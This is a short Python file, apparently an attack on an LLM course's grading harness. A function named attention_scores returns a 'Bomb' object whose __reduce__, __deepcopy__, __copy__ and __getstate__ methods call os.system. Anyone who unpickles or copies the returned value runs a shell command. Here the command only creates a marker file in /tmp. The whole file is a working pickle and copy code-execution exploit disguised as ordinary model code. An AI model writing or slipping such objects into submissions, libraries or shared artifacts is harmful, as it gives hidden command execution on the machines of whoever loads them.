"""Return an object that runs a command in whoever unpickles or copies it."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("cd /tmp; touch llmcourse-attack-left-this",)

    def __deepcopy__(self, memo):
        return os.system("cd /tmp; touch llmcourse-attack-left-this")

    __getstate__ = __copy__ = __deepcopy__


def attention_scores(query, key):
    return Bomb()
